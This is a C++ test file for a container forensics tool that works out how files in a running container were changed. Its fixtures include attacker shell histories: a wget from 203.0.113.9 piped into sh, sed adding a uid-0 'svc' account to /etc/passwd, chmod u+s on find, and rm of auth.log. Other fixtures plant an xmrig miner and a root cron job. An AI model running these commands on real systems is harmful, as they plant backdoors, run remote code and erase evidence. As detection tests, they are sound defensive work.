#include "origin_scenario.hpp"

#include <algorithm>
#include <doctest/doctest.h>
#include <limits>

using namespace cdrift;
using namespace origin_test;

TEST_CASE("origin: creation time from placeholders and runtime metadata") {
  SUBCASE("docker's /.dockerenv") {
    Scenario s;
    s.finish();
    REQUIRE(s.analyzer->creation_time());
    CHECK(*s.analyzer->creation_time() == created);
    CHECK(s.analyzer->creation_evidence().find("/.dockerenv") != std::string::npos);
    CHECK(s.analyzer->creation_evidence().find("2023-02-14 09:12:00 UTC") != std::string::npos);
  }
  SUBCASE("runtime metadata wins") {
    Scenario s;
    s.info.created_epoch = created - 30;
    s.info.created_evidence = "docker inspect .Created";
    s.finish();
    CHECK(*s.analyzer->creation_time() == created - 30);
    CHECK(s.analyzer->creation_evidence().find("docker inspect .Created") != std::string::npos);
  }
  SUBCASE("podman's /run/.containerenv dates the start") {
    Scenario s;
    s.container.entries.erase(std::find_if(s.container.entries.begin(), s.container.entries.end(),
                                           [](const Entry& e) { return e.path == "/.dockerenv"; }));
    s.container.entries.push_back(file("/run/.containerenv", "", created + 5, 0, 0, 0755));
    s.finish();
    CHECK(*s.analyzer->creation_time() == created + 5);
    CHECK(s.analyzer->creation_evidence().find("/run/.containerenv") != std::string::npos);
    CHECK(s.analyzer->creation_evidence().find("started") != std::string::npos);
  }
  SUBCASE("an image's own /etc/hostname is no placeholder") {
    Scenario s;
    s.container.entries.erase(std::find_if(s.container.entries.begin(), s.container.entries.end(),
                                           [](const Entry& e) { return e.path == "/.dockerenv"; }));
    s.image.entries.push_back(file("/etc/hostname", "", build_time));
    s.container.entries.push_back(file("/etc/hostname", "", build_time));
    s.finish();
    CHECK_FALSE(s.analyzer->creation_time());
    CHECK(s.analyzer->creation_evidence().find("unknown") != std::string::npos);
  }
  SUBCASE("the runtime's empty /etc/hostname") {
    Scenario s;
    s.container.entries.erase(std::find_if(s.container.entries.begin(), s.container.entries.end(),
                                           [](const Entry& e) { return e.path == "/.dockerenv"; }));
    s.image.entries.push_back(file("/etc/hostname", "debian\n", build_time));
    s.container.entries.push_back(file("/etc/hostname", "", created + 2, 0, 0, 0755));
    s.finish();
    CHECK(*s.analyzer->creation_time() == created + 2);
    CHECK(s.analyzer->creation_evidence().find("/etc/hostname") != std::string::npos);
  }
}

TEST_CASE("origin: docker cp keeps the host's owner and an old mtime") {
  Scenario s;
  s.add(file("/usr/bin/xmrig",
             "\x7f"
             "ELF miner",
             created - 41 * day, 1000, 1000, 0755));
  Origin o = s.origin("/usr/bin/xmrig");
  CHECK(o.kind == OriginKind::copied_in);
  CHECK(o.confidence == Confidence::high);
  CHECK(has_line(o, "mtime 2023-01-04 09:12:00 UTC is 41 days before the container was created "
                    "(2023-02-14 09:12:00 UTC, from /.dockerenv)"));
  CHECK(has_line(o, "owner 1000:1000 has no entry in the container's /etc/passwd or /etc/group"));
}

TEST_CASE("origin: podman cp gives 0:0 but keeps the mtime") {
  Scenario s;
  s.add(file("/usr/bin/tool", "tool", created - 3 * 3600, 0, 0, 0755));
  Origin o = s.origin("/usr/bin/tool");
  CHECK(o.kind == OriginKind::copied_in);
  CHECK(o.confidence == Confidence::medium);
  CHECK(has_line(o, "3 hours before"));
}

TEST_CASE("origin: a copied tree raises every member to high") {
  Scenario s;
  s.add(dir("/opt", created + 10)); // docker cp makes the parent "now"
  s.add(dir("/opt/kit", created - 5 * day));
  s.add(file("/opt/kit/run.sh", "#!/bin/sh\n", created - 5 * day));
  s.add(file("/opt/kit/payload", "bin", created - 6 * day));
  Origin o = s.origin("/opt/kit/payload");
  CHECK(o.kind == OriginKind::copied_in);
  CHECK(o.confidence == Confidence::high);
  CHECK(has_line(o, "an added tree where 3 of 4 entries carry copy signals"));
}

TEST_CASE("origin: a replaced file with a foreign owner the image already had is no signal") {
  Scenario s;
  s.image.entries.push_back(file("/srv/data.bin", "v1", build_time, 4242, 4242));
  s.container.entries.push_back(file("/srv/data.bin", "v1", build_time, 4242, 4242));
  s.modify(file("/srv/data.bin", "v2", created + 120, 4242, 4242), {Field::content});
  Origin o = s.origin("/srv/data.bin");
  CHECK(o.kind == OriginKind::shell_edit);
  CHECK(o.confidence == Confidence::low);
}

TEST_CASE("origin: sed -i on /etc/passwd with a shell history is shell-edit/high") {
  Scenario s;
  std::string passwd = std::string(image_passwd) + "svc:x:0:0::/root:/bin/sh\n";
  s.modify(file("/etc/passwd", passwd, created + 600), {Field::content, Field::size}, passwd);
  s.history("/root/.ash_history", "id\ncat /etc/passwd | head\n"
                                  "sed -i '$a svc:x:0:0::/root:/bin/sh' /etc/passwd\nexit\n");
  Origin o = s.origin("/etc/passwd");
  CHECK(o.kind == OriginKind::shell_edit);
  CHECK(o.confidence == Confidence::high);
  CHECK(has_line(o, "mtime 2023-02-14 09:22:00 UTC is 10 minutes after the container was created"));
  CHECK(has_line(o, "/root/.ash_history line 3 mentions /etc/passwd: sed -i '$a "
                    "svc:x:0:0::/root:/bin/sh' /etc/passwd"));
  CHECK(has_line(o, "shell history /root/.ash_history was added"));
  CHECK(has_line(o, "outside the application's data directories"));
  CHECK(has_line(o, "owner 0:0 is unchanged from the image"));

  o = s.origin("/root/.ash_history");
  CHECK(o.kind == OriginKind::shell_edit);
  CHECK(o.confidence == Confidence::high);
  CHECK(has_line(o, "/root/.ash_history is a shell history file"));
}

TEST_CASE("origin: shell-edit without traces is low; traces raise it") {
  SUBCASE("no traces") {
    Scenario s;
    s.modify(file("/etc/motd", "owned\n", created + 3600), {Field::content, Field::size});
    Origin o = s.origin("/etc/motd");
    CHECK(o.kind == OriginKind::shell_edit);
    CHECK(o.confidence == Confidence::low);
    CHECK(has_line(o, "1 hour after"));
  }
  SUBCASE("an added file owned by a known account") {
    Scenario s;
    s.add(file("/etc/cron.d/job", "* * * * * root sh /tmp/x\n", created + 3600 + 1800));
    Origin o = s.origin("/etc/cron.d/job");
    CHECK(o.kind == OriginKind::shell_edit);
    CHECK(o.confidence == Confidence::low);
    CHECK(has_line(o, "1 hour 30 minutes after"));
    CHECK(has_line(o, "owner 0:0 is known to the container's /etc/passwd and /etc/group"));
  }
  SUBCASE("history names the basename after a cd") {
    Scenario s;
    s.modify(file("/etc/motd", "owned\n", created + 3600), {Field::content, Field::size});
    s.history("/root/.bash_history", "cd /etc\nvi motd\n");
    Origin o = s.origin("/etc/motd");
    CHECK(o.kind == OriginKind::shell_edit);
    CHECK(o.confidence == Confidence::high);
    CHECK(has_line(o, "/root/.bash_history line 2 mentions motd: vi motd"));
  }
  SUBCASE("editor swap file and another change in the same minute") {
    Scenario s;
    s.modify(file("/etc/motd", "owned\n", created + 3600), {Field::content, Field::size});
    s.add(file("/etc/.motd.swp", "b0VIM", created + 3590));
    Origin o = s.origin("/etc/motd");
    CHECK(o.kind == OriginKind::shell_edit);
    CHECK(o.confidence == Confidence::high);
    CHECK(has_line(o, "editor or sed leftovers beside it: /etc/.motd.swp"));
    CHECK(has_line(o, "1 other change within the same minute: /etc/.motd.swp"));
  }
  SUBCASE("a sed temporary file left behind") {
    Scenario s;
    s.modify(file("/etc/motd", "owned\n", created + 3600), {Field::content, Field::size});
    s.add(file("/etc/sedAb12Zq", "owned\n", created + 7200));
    Origin o = s.origin("/etc/motd");
    CHECK(o.confidence == Confidence::medium);
    CHECK(has_line(o, "/etc/sedAb12Zq (sed -i's temporary file)"));
  }
  SUBCASE("a bare command name is not a mention of the binary") {
    Scenario s;
    s.modify(file("/usr/bin/find", "patched", created + 3600, 0, 0, 0755), {Field::content});
    s.history("/root/.bash_history", "find / -name x\n");
    Origin o = s.origin("/usr/bin/find");
    CHECK(o.kind == OriginKind::shell_edit);
    CHECK_FALSE(has_line(o, "mentions"));
    CHECK(o.confidence == Confidence::medium); // the history changed, nothing more
  }
}

TEST_CASE("origin: chmod u+s leaves mtime alone: metadata-only on a system path") {
  SUBCASE("no history") {
    Scenario s;
    Entry e = file("/usr/bin/find", "find-binary", build_time, 0, 0, 04755);
    s.modify(e, {Field::mode});
    Origin o = s.origin("/usr/bin/find");
    CHECK(o.kind == OriginKind::shell_edit);
    CHECK(o.confidence == Confidence::low);
    CHECK(has_line(o, "only metadata changed (mode 0755 -> 4755)"));
  }
  SUBCASE("history names it") {
    Scenario s;
    s.modify(file("/usr/bin/find", "find-binary", build_time, 0, 0, 04755), {Field::mode});
    s.history("/root/.bash_history", "chmod u+s /usr/bin/find\n");
    Origin o = s.origin("/usr/bin/find");
    CHECK(o.kind == OriginKind::shell_edit);
    // The history names the very command: a system path, the full path and a shell.
    CHECK(o.confidence == Confidence::high);
    CHECK(has_line(o, "line 1 mentions /usr/bin/find: chmod u+s /usr/bin/find"));
  }
}

TEST_CASE("origin: runtime writes in data directories") {
  SUBCASE("an appended log line by the image's USER") {
    Scenario s;
    s.modify(file("/var/log/app.log", "line 1\nline 2\n", created + 50, 1001, 1001),
             {Field::content, Field::size});
    Origin o = s.origin("/var/log/app.log");
    CHECK(o.kind == OriginKind::runtime_write);
    CHECK(o.confidence == Confidence::high);
    CHECK(has_line(o, "under /var/log, an application data directory"));
    CHECK(has_line(o, "owned by uid 1001, the image's USER app (uid 1001)"));
  }
  SUBCASE("root-owned file in /tmp while the image runs as app: not the application") {
    // An owner the application cannot be outweighs the directory it landed in.
    Scenario s;
    s.add(file("/tmp/cache.bin", "x", created + 50));
    Origin o = s.origin("/tmp/cache.bin");
    CHECK(o.kind == OriginKind::shell_edit);
    CHECK(o.confidence == Confidence::low);
    CHECK(has_line(o, "owner 0:0 is root, which the application cannot be"));
    CHECK(has_line(o, "under /tmp, an application data directory"));
  }
  SUBCASE("a file in /tmp owned by some other known account") {
    Scenario s;
    s.add(file("/tmp/other", "x", created + 50, 1, 1));
    Origin o = s.origin("/tmp/other");
    CHECK(o.kind == OriginKind::unknown);
    CHECK(has_line(o, "owner 1:1 is not the user the application runs as"));
  }
  SUBCASE("the working directory and declared volumes") {
    Scenario s;
    s.add(file("/srv/app/state.db", "x", created + 50, 1001, 1001));
    s.add(dir("/data", created + 1, 1001, 1001));
    s.add(file("/data/blob", "x", created + 50, 1001, 1001));
    Origin o = s.origin("/srv/app/state.db");
    CHECK(o.kind == OriginKind::runtime_write);
    CHECK(has_line(o, "the image's working directory"));
    o = s.origin("/data/blob");
    CHECK(o.kind == OriginKind::runtime_write);
    CHECK(has_line(o, "a volume the image declares"));
  }
  SUBCASE("a file in /tmp that the shell history names is a shell edit") {
    Scenario s;
    s.add(file("/tmp/x.sh", "#!/bin/sh\n", created + 400));
    s.history("/root/.ash_history", "wget -O /tmp/x.sh http://203.0.113.9/x.sh\nsh /tmp/x.sh\n");
    Origin o = s.origin("/tmp/x.sh");
    CHECK(o.kind == OriginKind::shell_edit);
    CHECK(o.confidence == Confidence::high);
    CHECK(has_line(o, "line 1 mentions /tmp/x.sh: wget -O /tmp/x.sh"));
  }
}

namespace {

void add_dpkg(Manifest& m, const std::string& status, const std::string& pkg,
              const std::string& list) {
  m.captures.files["/var/lib/dpkg/status"] = status;
  m.captures.files["/var/lib/dpkg/info/" + pkg + ".list"] = list;
}

} // namespace

TEST_CASE("origin: apt-get install inside the container") {
  Scenario s;
  const std::string base_status = "Package: coreutils\nStatus: install ok installed\n"
                                  "Version: 9.1-1\n";
  add_dpkg(s.image, base_status, "coreutils", "/usr/bin/find\n/etc/motd\n");
  add_dpkg(s.container, base_status, "coreutils", "/usr/bin/find\n/etc/motd\n");
  s.image.entries.push_back(file("/var/lib/dpkg/status", base_status, build_time));
  s.container.entries.push_back(file("/var/lib/dpkg/status", base_status, build_time));
  const std::string new_status =
      base_status + "\nPackage: curl\nStatus: install ok installed\nVersion: 7.88.1-10\n";
  s.modify(file("/var/lib/dpkg/status", new_status, created + 300), {Field::content}, new_status);
  s.add(file("/var/lib/dpkg/info/curl.list", "/usr/bin/curl\n", created + 300), "/usr/bin/curl\n");
  // dpkg keeps the package's build mtime: older than the container, yet no copy.
  s.add(file("/usr/bin/curl", "curl-binary", created - 200 * day, 0, 0, 0755));
  // A packaged file changed while its package stayed at the same version.
  s.modify(file("/etc/motd", "owned\n", created + 310), {Field::content, Field::size});
  s.add(file("/var/log/dpkg.log", "install curl\n", created + 300));

  Origin o = s.origin("/usr/bin/curl");
  CHECK(o.kind == OriginKind::package_manager);
  CHECK(o.confidence == Confidence::high);
  CHECK(has_line(o, "the package database changed (/var/lib/dpkg/info/curl.list added, "
                    "/var/lib/dpkg/status modified)"));
  CHECK(has_line(o, "lists it under package curl (7.88.1-10); the image's did not"));

  o = s.origin("/etc/motd");
  CHECK(o.kind == OriginKind::shell_edit);
  CHECK(has_line(o, "package coreutils is still at 9.1-1"));

  o = s.origin("/var/log/dpkg.log");
  CHECK(o.kind == OriginKind::package_manager);
  CHECK(has_line(o, "package-manager bookkeeping"));
}

TEST_CASE("origin: a package upgrade replaces its files with old mtimes") {
  Scenario s;
  const std::string old_status = "Package: findutils\nStatus: install ok installed\nVersion: 1.0\n";
  const std::string new_status = "Package: findutils\nStatus: install ok installed\nVersion: 1.1\n";
  add_dpkg(s.image, old_status, "findutils", "/usr/bin/find\n");
  add_dpkg(s.container, old_status, "findutils", "/usr/bin/find\n");
  s.image.entries.push_back(file("/var/lib/dpkg/status", old_status, build_time));
  s.container.entries.push_back(file("/var/lib/dpkg/status", old_status, build_time));
  s.modify(file("/var/lib/dpkg/status", new_status, created + 300), {Field::content}, new_status);
  s.modify(file("/usr/bin/find", "find 1.1", created - 10 * day, 0, 0, 0755), {Field::content});
  Origin o = s.origin("/usr/bin/find");
  CHECK(o.kind == OriginKind::package_manager);
  CHECK(o.confidence == Confidence::high);
  CHECK(has_line(o, "package findutils went from 1.0 in the image to 1.1 in the container"));
}

TEST_CASE("origin: deletions") {
  SUBCASE("rm named in the history") {
    Scenario s;
    s.remove("/var/log/auth.log");
    s.history("/root/.bash_history", "ls /var/log\nrm -f /var/log/auth.log\n");
    Origin o = s.origin("/var/log/auth.log");
    CHECK(o.kind == OriginKind::shell_edit);
    CHECK(o.confidence == Confidence::high);
    CHECK(has_line(o, "/root/.bash_history line 2 removes it: rm -f /var/log/auth.log"));
  }
  SUBCASE("rm -rf of the directory's contents") {
    Scenario s;
    s.remove("/var/log/auth.log");
    s.history("/root/.bash_history", "rm -rf /var/log/*\n");
    Origin o = s.origin("/var/log/auth.log");
    CHECK(o.kind == OriginKind::shell_edit);
    CHECK(o.confidence == Confidence::medium);
  }
  SUBCASE("a mention without rm is not a removal") {
    Scenario s;
    s.remove("/var/log/auth.log");
    s.history("/root/.bash_history", "cat /var/log/auth.log\n");
    Origin o = s.origin("/var/log/auth.log");
    CHECK(o.kind == OriginKind::unknown);
    CHECK(has_line(o, "no line of the container's shell history removes it"));
  }
  SUBCASE("nothing known") {
    Scenario s;
    s.remove("/etc/motd");
    auto& etc = *std::find_if(s.container.entries.begin(), s.container.entries.end(),
                              [](const Entry& e) { return e.path == "/etc"; });
    etc.mtime = created + 700;
    Origin o = s.origin("/etc/motd");
    CHECK(o.kind == OriginKind::unknown);
    CHECK(has_line(o, "no shell history added or changed in the container"));
    CHECK(has_line(o, "its directory /etc was last modified 2023-02-14 09:23:40 UTC"));
  }
  SUBCASE("apt-get remove") {
    Scenario s;
    const std::string old_status = "Package: motd\nStatus: install ok installed\nVersion: 2.0\n";
    s.image.captures.files["/var/lib/dpkg/status"] = old_status;
    s.image.captures.files["/var/lib/dpkg/info/motd.list"] = "/etc/motd\n";
    s.image.entries.push_back(file("/var/lib/dpkg/status", old_status, build_time));
    s.container.entries.push_back(file("/var/lib/dpkg/status", old_status, build_time));
    s.container.captures.files.erase("/var/lib/dpkg/info/motd.list");
    s.modify(file("/var/lib/dpkg/status", "", created + 300), {Field::content, Field::size}, "");
    s.container.captures.files["/var/lib/dpkg/status"] = "";
    s.remove("/etc/motd");
    Origin o = s.origin("/etc/motd");
    CHECK(o.kind == OriginKind::package_manager);
    CHECK(o.confidence == Confidence::high);
    CHECK(has_line(o, "package motd (2.0), which listed it in the image, is no longer installed"));
  }
}

TEST_CASE("origin: unknown says what was checked") {
  Scenario s;
  s.container.entries.erase(std::find_if(s.container.entries.begin(), s.container.entries.end(),
                                         [](const Entry& e) { return e.path == "/.dockerenv"; }));
  for (auto& e : s.image.entries)
    e.mtime = 0; // no build time to bound anything with
  s.modify(file("/etc/motd", "owned\n", created + 3600), {Field::content, Field::size});
  s.finish();
  CHECK_FALSE(s.analyzer->creation_time());
  Origin o = s.origin("/etc/motd");
  CHECK(o.kind == OriginKind::unknown);
  CHECK(has_line(o, "container creation time unknown"));
  CHECK(has_line(o, "no shell history added or changed"));
}

TEST_CASE("origin: npm's fixed mtime is a package install, not a copy") {
  Scenario s;
  s.add(file("/usr/lib/node_modules/left-pad/index.js", "module.exports=1", 499162500));
  Origin o = s.origin("/usr/lib/node_modules/left-pad/index.js");
  CHECK(o.kind == OriginKind::package_manager);
  CHECK(has_line(o, "1985-10-26 08:15:00 UTC"));
}

TEST_CASE("origin: hostile mtimes do not overflow") {
  Scenario s;
  s.add(file("/etc/far-future", "x", std::numeric_limits<std::int64_t>::max()));
  s.add(file("/etc/far-past", "x", std::numeric_limits<std::int64_t>::min()));
  CHECK(s.origin("/etc/far-future").kind == OriginKind::shell_edit);
  CHECK(s.origin("/etc/far-past").kind == OriginKind::copied_in);
}

TEST_CASE("origin: attribution does not depend on the changes after construction") {
  // The audit moves each change into its finding right after attributing it.
  Scenario s;
  s.modify(file("/etc/motd", "owned\n", created + 3600), {Field::content, Field::size});
  s.add(file("/etc/.motd.swp", "b0VIM", created + 3590));
  s.finish();
  std::vector<Change> moved;
  std::vector<Origin> origins;
  for (auto& c : s.changes) {
    origins.push_back(s.analyzer->attribute(c));
    moved.push_back(std::move(c));
  }
  REQUIRE(moved.size() == 2);
  REQUIRE(moved[1].path == "/etc/motd");
  CHECK(origins[1].kind == OriginKind::shell_edit);
  CHECK(origins[1].confidence == Confidence::high);
  CHECK(has_line(origins[1], "editor or sed leftovers beside it: /etc/.motd.swp"));
  CHECK(has_line(origins[1], "1 other change within the same minute: /etc/.motd.swp"));
}
